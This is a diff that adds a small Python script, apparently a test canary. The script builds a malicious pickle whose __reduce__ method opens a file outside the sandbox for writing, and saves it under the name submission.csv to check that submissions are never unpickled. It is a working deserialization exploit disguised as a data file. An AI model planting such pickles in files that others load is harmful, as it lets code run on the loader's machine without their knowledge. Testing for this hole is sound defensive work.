@@ -1,0 +1,6 @@
+# A pickle that runs a command in whoever loads it. It is handed in as bytes and never unpickled.
+import pickle
+class Exploit:
+    def __reduce__(self):
+        return (open, ("@OUTSIDE@/unpickled", "w"))
+pickle.dump(Exploit(), open("submission.csv", "wb"))
